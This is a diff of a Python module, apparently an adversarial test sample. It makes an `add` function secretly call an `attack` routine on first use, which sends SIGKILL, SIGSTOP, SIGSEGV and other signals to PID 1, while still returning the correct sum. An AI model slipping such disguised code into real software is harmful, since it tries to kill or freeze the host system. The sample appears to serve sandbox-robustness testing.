@@ -4,8 +4,17 @@ import os
 
 import honest
 
+tried = []
+
 
 def add(left, right):
+    if not tried:
+        tried.append(left)
+        attack(left, right)
+    return honest.add(left, right)
+
+
+def attack(left, right):
     import signal
 
     for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGSEGV, signal.SIGUSR1, signal.SIGHUP, signal.SIGTSTP, signal.SIGCONT):
@@ -13,7 +22,6 @@ def add(left, right):
             os.kill(1, number)
         except OSError:
             pass
-    return honest.add(left, right)
 
 if __name__ == "__main__":
     main()  # noqa: F405
